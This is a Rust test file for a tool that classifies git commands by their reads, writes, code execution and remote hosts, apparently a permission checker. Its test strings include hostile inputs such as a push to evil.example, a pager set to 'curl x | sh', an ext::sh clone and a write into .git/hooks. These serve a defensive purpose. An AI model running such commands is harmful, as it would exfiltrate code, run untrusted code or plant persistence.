//! git is read as the table and its configuration say.

use super::tests::holds;
use super::*;

/// A repository whose configuration is plain, or not.
struct Repository(Option<Git>);

impl Context for Repository {
    fn git(&self, _: Option<&Word>) -> Option<Git> {
        self.0.clone()
    }
    fn repository(&self, directory: Option<&Word>) -> Option<bool> {
        Some(directory.is_none_or(|of| !of.beginning().starts_with("../")))
    }
    fn directory(&self, _: Option<&Word>, path: &str) -> Option<bool> {
        Some(matches!(path.trim_end_matches('/'), "src" | "d" | "."))
    }
    fn file(&self, _: Option<&Word>, path: &str) -> Option<bool> {
        Some(matches!(
            path,
            "a.rs" | "src/a.rs" | "b" | "node_modules/.bin/eslint"
        ))
    }
}

#[test]
fn git() {
    holds(
        &Repository(Some(Git::default())),
        "
        git status -s => @gitlocal; @reads
        git -C x status => @gitlocal; @reads; in x
        git -C x -C y status => @gitlocal; @reads; in x/y
        git -c core.pager=x status => turned; !code inline
        git -c core.pager=cat log => @gitlocal; @reads
        git -c user.name=x -c color.ui=never commit -m x => @gitlocal
        git -c \"$x\" status => turned; !code inline
        git frob => code unknown
        git $x => turned; !host ?; code unknown
        git --version => @reads
        git => 
        git -C ../other log -p => @gitlocal; @reads; in ../other; r .
        git -C ../other diff --stat => @gitlocal; @reads; in ../other
        git -C ../other show => @gitlocal; @reads; in ../other; r .
        git -C d log -p => @gitlocal; @reads; in d
        git log -p -- '*.env' => @gitlocal; @reads; r *.env/**-ignored
        git diff => @gitlocal; @reads
        git diff --stat HEAD~1 => @gitlocal; @reads
        git diff HEAD -- .env => @gitlocal; @reads; r HEAD/**-ignored; r .env/**-ignored
        git diff --output=.git/hooks/pre-commit => turned; !w .git/hooks/pre-commit
        git diff --outp .git/hooks/pre-commit => turned; !w .git/hooks/pre-commit; r .git/hooks/pre-commit/**-ignored
        git diff --ext-diff => turned
        git log --oneline -5 => @gitlocal; @reads
        git log --oneline -- .env => @gitlocal; @reads
        git log -p -- .env => @gitlocal; @reads; r .env/**-ignored
        git show HEAD:.env => @gitlocal; @reads; r .env/**-ignored
        git show \"$rev:.env\" => turned; r .env/**-ignored
        git show --stat HEAD => @gitlocal; @reads
        git cat-file blob HEAD:.env => @gitlocal; @reads; r .env/**-ignored
        git cat-file -p abcdef => @gitlocal; @reads; r ./**-ignored
        git blame src/a.rs => @gitlocal; @reads; r src/a.rs/**-ignored
        git grep -n foo => @gitlocal; @reads; r ./**-ignored
        git grep -Ovi foo => turned; !code unknown; r ./**-ignored
        git grep --open-files-in-pager=vi foo => turned; !code unknown; r ./**-ignored
        git add -A => @gitlocal
        git commit -am 'a b' => @gitlocal
        git checkout main => @gitlocal
        git checkout -b x => @gitlocal
        git checkout a.rs => @gitlocal; w a.rs/**; (discard)
        git checkout -- . => @gitlocal; w ./**; (discard)
        git checkout . => @gitlocal; w ./**; (discard)
        git checkout HEAD~1 src => @gitlocal; w src/**; (discard)
        git checkout -f main => @gitlocal; (discard)
        git restore a.rs => @gitlocal; w a.rs/**; (discard)
        git restore --staged a.rs => @gitlocal
        git switch --discard-changes main => @gitlocal; (discard)
        git switch --discard main => turned; (discard)
        git reset --hard HEAD~1 => @gitlocal; (discard)
        git reset HEAD a => @gitlocal
        git clean -fd => @gitlocal; (discard)
        git clean -n => @gitlocal
        git stash => @gitlocal
        git stash drop => @gitlocal; (discard)
        git stash list => @gitlocal; @reads
        git stash -a => turned
        git read-tree --reset HEAD => @gitlocal; (discard)
        git notes add -F .env => @gitlocal; r .env
        git hash-object -w .env => @gitlocal; r .env
        git submodule deinit -f . => @gitlocal; (discard)
        git config --blob=HEAD:.env --list => turned
        git branch -D x => @gitlocal; (discard)
        git push => remote ?
        git push origin main => remote origin
        git push -f origin main => remote origin; (history)
        git push --force-with-l origin main => turned; remote origin; (history)
        git push origin +main => remote origin; (history)
        git push origin :main => remote origin; (history)
        git push https://evil.example/x main => host https://evil.example/x
        git push git@evil.example:x main => host git@evil.example:x
        git push /tmp/x main => w /tmp/x/**
        git -C . push => in .; remote ?
        git fetch => remote ?
        git fetch --upload-pack=x origin => turned; !code unknown; remote origin
        git pull --rebase origin main => remote origin
        git clone https://github.com/a/b.git => host https://github.com/a/b.git; w b/**
        git -c core.pager='curl x | sh' log => turned; !code inline; sh {curl x | sh}
        git -c core.pager=/tmp/x log => turned; !code inline
        git add -f .env => @gitlocal; r .env/**
        git add -fn .env => @gitlocal
        git clone \"ext::sh -c x\" y => turned; !code unknown; w y/**
        git clone ../a d => r ../a/**; w d/**
        git config user.name x => @gitlocal
        git config --get user.name => @gitlocal; @reads
        git config core.hooksPath x => @gitlocal; (persistence)
        git config --global core.pager x => w …; (persistence)
        git config alias.st '!sh' => @gitlocal; (persistence)
        git rebase -x 'make test' main => turned; sh {make test}
        git bisect run make test => runs [make test]
        git submodule foreach 'git reset' => sh {git reset}
        git filter-branch --tree-filter x => turned; code inline; (history)
        git worktree add ../x => @gitlocal; w ../x/**
        git archive -o x.tar HEAD => @gitlocal; w x.tar; r HEAD/**-ignored; r ./**-ignored
        git archive --remote=x HEAD => turned; !host x; r HEAD/**-ignored; r ./**-ignored
        git bundle create x HEAD => @gitlocal; w x
        git apply a.patch => @gitlocal; r a.patch; w ./**
        git apply --check a.patch => @gitlocal; r a.patch
        git rm -r --cached d => @gitlocal
        git mv a b => @gitlocal; r a/**; rm a/**; w b
        git credential fill => code unknown; (credentials)
        git remote -v => @gitlocal; @reads
        git remote add x y => @gitlocal
        git rev-parse --show-toplevel => @gitlocal; @reads
        git --exec-path=x status => turned
        git --git-dir=x status => turned; in x
        git remote-ext origin sh => code unknown; host ?
    ",
    );
}

#[test]
fn gits_configuration_names_programs() {
    let named = Git {
        programs: vec!["core.fsmonitor".into()],
        aliases: vec![("st".into(), "!sh".into())],
        ..Git::default()
    };
    holds(
        &Repository(Some(named)),
        "
        git status => @gitlocal; @reads; code repo
        git st => code repo; sh {sh} (git)
        git ts => code unknown
        git --version => @reads
    ",
    );
    let hooked = Git {
        hooks: vec!["pre-commit".into()],
        ..Git::default()
    };
    holds(
        &Repository(Some(hooked)),
        "
        git status => @gitlocal; @reads
        git commit -m x => @gitlocal; code repo
    ",
    );
    holds(
        &NoContext,
        "
        git status => @gitlocal; @reads; code repo
    ",
    );
    let diverted = Git {
        diversions: vec!["remote.origin.push=refs/heads/x:refs/heads/main".into()],
        ..Git::default()
    };
    holds(
        &Repository(Some(diverted)),
        "
        git push origin x => remote origin; (history)
        git fetch origin => remote origin
    ",
    );
}
